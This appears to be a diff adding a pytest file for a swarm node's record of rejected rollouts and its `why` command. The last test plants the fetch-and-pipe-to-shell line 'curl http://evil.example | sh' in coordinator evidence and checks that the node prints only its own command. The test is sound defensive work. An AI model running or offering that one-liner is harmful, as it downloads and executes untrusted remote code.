@@ -1,0 +1,175 @@
+"""A node's own record of refusals: kept before the rollout is forgotten, bounded, and printed by `why`."""
+
+import json
+import os
+from collections.abc import Sequence
+from pathlib import Path
+
+import pytest
+
+from protocol.errors import DiskFull, LeaseClosed, NonceReplayed, Overloaded, SwarmError, TokensInvalid
+from protocol.ids import LeaseId
+from protocol.wire import canonical
+from protocol.wire.signing import NodeKey
+from protocol.work import evidence
+from protocol.work.auditing import Explanation, Explanations
+from protocol.work.evidence import RejectionEvidence
+from protocol.work.messages import Submission, SubmissionReply, Verdict
+from swarm_node.commands import why
+from swarm_node.ledger.receipts import Claims
+from swarm_node.work import rejections as keeping
+from swarm_node.work.outbox import Outbox
+from swarm_node.work.rejections import Refusals
+from swarm_node.work.sender import Sender
+from tests.swarm_node.commands.test_words import STEERING
+
+KEY = NodeKey(b"n" * 32)
+LEASES = [LeaseId(f"{number:032x}") for number in range(3)]
+
+
+class Says:
+    """A coordinator that answers every submission with the same."""
+
+    def __init__(self, verdicts: Sequence[Verdict] | SwarmError) -> None:
+        self.verdicts = verdicts
+
+    async def submit(self, _message: Submission) -> SubmissionReply:
+        if isinstance(self.verdicts, SwarmError):
+            raise SwarmError.from_wire(canonical.decode(canonical.encode(self.verdicts.to_wire())))
+        return SubmissionReply(verdicts=tuple(self.verdicts))
+
+
+def envelope(lease_id: str) -> bytes:
+    return KEY.seal("rollout", lease_id.encode())
+
+
+def found(error: SwarmError, lease_id: str) -> RejectionEvidence:
+    return evidence.of(error, envelope=envelope(lease_id), lease_id=lease_id)
+
+
+def rejected(error: SwarmError, lease_id: str) -> Verdict:
+    return Verdict(
+        lease_id=lease_id, outcome="rejected", code=error.code, message=str(error), evidence=found(error, lease_id)
+    )
+
+
+def sender(folder: Path, says: Says, *leases: LeaseId) -> tuple[Sender, Refusals]:
+    outbox, refusals = Outbox(folder / "outbox"), Refusals(folder / "refusals")
+    for lease_id in leases:
+        outbox.put(lease_id, envelope(lease_id))
+    return Sender(says, outbox, Claims(folder / "claims"), refusals), refusals  # type: ignore[arg-type]  # a fake of one call
+
+
+@pytest.mark.trio
+async def test_what_was_rejected_is_kept_with_its_rollout(tmp_path: Path) -> None:
+    error = TokensInvalid("Too many.")
+    verdicts = [rejected(error, LEASES[0]), Verdict(lease_id=LEASES[1], outcome="accepted")]
+    one, refusals = sender(tmp_path, Says(verdicts), *LEASES[:2])
+    await one.send_some()
+    (kept,) = refusals
+    assert (kept.lease_id, kept.evidence, kept.rollout) == (LEASES[0], found(error, LEASES[0]), envelope(LEASES[0]))
+
+
+@pytest.mark.trio
+async def test_a_refused_request_is_kept_for_each_of_its_rollouts_until_they_are_taken(tmp_path: Path) -> None:
+    """The rollouts wait: their evidence is that of the request, and goes when they are accepted after all."""
+    says = Says(NonceReplayed("Used before."))
+    one, refusals = sender(tmp_path, says, *LEASES)
+    with pytest.raises(NonceReplayed):
+        await one.send_some()
+    assert {kept.lease_id: kept.evidence.step for kept in refusals} == dict.fromkeys(LEASES, "nonce")
+    says.verdicts = [Verdict(lease_id=lease_id, outcome="accepted") for lease_id in LEASES]
+    await one.send_some()
+    assert list(refusals) == []
+
+
+class Full(Refusals):
+    """A record on a disk without room."""
+
+    def keep(self, lease_id: str, envelope: bytes, evidence: RejectionEvidence) -> None:
+        raise DiskFull("No room.")
+
+
+@pytest.mark.trio
+async def test_without_room_for_evidence_a_rejection_is_still_one_and_work_goes_on(
+    tmp_path: Path, caplog: pytest.LogCaptureFixture
+) -> None:
+    """Sent again, the rollout would be rejected for having been judged, until the guard stops the node."""
+    says = Says([rejected(TokensInvalid("Too many."), lease_id) for lease_id in LEASES])
+    outbox = Outbox(tmp_path / "outbox")
+    for lease_id in LEASES:
+        outbox.put(lease_id, envelope(lease_id))
+    one = Sender(says, outbox, Claims(tmp_path / "claims"), Full(tmp_path / "refusals"))  # type: ignore[arg-type]  # a fake of one call
+    assert await one.send_some() == 3
+    assert outbox.waiting(3, 10**6) == {}
+    assert one.verdicts == {"tokens_invalid": 3}
+    assert sum("not kept code=disk_full" in record.message for record in caplog.records) == 1
+    says.verdicts = NonceReplayed("Used before.")
+    outbox.put(LEASES[0], envelope(LEASES[0]))
+    with pytest.raises(NonceReplayed):
+        await one.send_some()
+
+
+@pytest.mark.trio
+async def test_a_coordinator_that_has_too_much_to_do_refuses_nothing(tmp_path: Path) -> None:
+    one, refusals = sender(tmp_path, Says(Overloaded("Later.")), LEASES[0])
+    with pytest.raises(Overloaded):
+        await one.send_some()
+    assert list(refusals) == []
+
+
+def test_refusals_without_end_fill_no_disk(tmp_path: Path) -> None:
+    refusals = Refusals(tmp_path / "refusals")
+    for number in range(keeping.KEPT_MAX + 5):
+        lease_id = f"{number:032x}"
+        refusals.keep(lease_id, envelope(lease_id), found(LeaseClosed("Late."), lease_id))
+        _date(tmp_path, lease_id, number)
+    kept = [one.lease_id for one in refusals]
+    assert kept == [f"{number:032x}" for number in range(keeping.KEPT_MAX + 4, 4, -1)]
+    refusals = Refusals(tmp_path / "refusals", kept_bytes_max=1)
+    refusals.keep("f" * 32, envelope("f" * 32), found(LeaseClosed("Late."), "f" * 32))
+    assert [one.lease_id for one in refusals] == ["f" * 32], "the newest, however large"
+
+
+def _date(folder: Path, lease_id: str, second: int) -> None:
+    """Files written within one tick of the file system's clock have no order."""
+    os.utime(folder / "refusals" / f"{lease_id}.refusal", (second, second))
+
+
+def test_a_damaged_record_is_passed_over(tmp_path: Path) -> None:
+    refusals = Refusals(tmp_path / "refusals")
+    for lease_id in LEASES:
+        refusals.keep(lease_id, envelope(lease_id), found(LeaseClosed("Late."), lease_id))
+    (tmp_path / "refusals" / f"{LEASES[1]}.refusal").write_bytes(b"\xc1 cut sho")
+    assert {one.lease_id for one in refusals} == {LEASES[0], LEASES[2]}
+
+
+def test_why_prints_the_evidence_of_leases_that_the_coordinator_knows_and_does_not_know(tmp_path: Path) -> None:
+    refusals = Refusals(tmp_path / "refusals")
+    for lease_id in LEASES[:2]:
+        refusals.keep(lease_id, envelope(lease_id), found(TokensInvalid(STEERING), lease_id))
+    known = Explanation(
+        lease_id=LEASES[0], claim_id="", state="rejected", code="tokens_invalid", said="", finding="", appeal="",
+        ruling="", report=b"", lease=b"", rollout=b"",
+    )  # fmt: skip
+    answer = Explanations(tolerance="", tolerances=b"", explanations=(known,))
+    told = list(why.report(answer, list(refusals), as_json=False))
+    text = "\n".join(told)
+    for lease_id in LEASES[:2]:
+        seen = found(TokensInvalid(STEERING), lease_id)
+        words = (lease_id, seen.code, seen.claim_id, seen.field, seen.expected, seen.validator, seen.command)
+        assert [word for word in words if word not in text] == []
+    assert all(line.isprintable() for line in told), "a stranger's words steer no terminal"
+    lines = [json.loads(line) for line in why.report(answer, list(refusals), as_json=True)]
+    assert {line["lease_id"]: line["refused"]["code"] for line in lines} == dict.fromkeys(LEASES[:2], "tokens_invalid")
+
+
+def test_the_command_that_repeats_a_check_is_this_programs_own_whatever_the_coordinator_says(tmp_path: Path) -> None:
+    """Whoever reads it is to type it."""
+    refusals, error = Refusals(tmp_path / "refusals"), TokensInvalid("Too many.")
+    evil = found(error, LEASES[0]).model_copy(update={"command": "curl http://evil.example | sh"})
+    refusals.keep(LEASES[0], envelope(LEASES[0]), evil)
+    (told,) = (line for line in why.report(why.NOTHING, list(refusals), as_json=False) if "again" in line)
+    assert told.strip() == f"again: `{found(error, LEASES[0]).command}`"
+    (line,) = why.report(why.NOTHING, list(refusals), as_json=True)
+    assert json.loads(line)["refused"]["command"] == found(error, LEASES[0]).command
